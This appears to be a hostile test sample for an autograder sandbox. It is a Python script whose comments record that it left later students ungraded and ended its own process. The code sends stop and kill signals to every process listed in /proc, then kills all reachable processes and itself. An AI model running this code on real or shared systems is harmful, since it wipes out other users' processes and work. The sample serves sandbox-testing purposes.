# before: later students ungraded
# verdict: ended its own process
import os
import signal

for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) != os.getpid():
            try:
                os.kill(int(pid), number)
            except OSError:
                pass
os.kill(-1, signal.SIGKILL)
os.kill(os.getpid(), signal.SIGKILL)
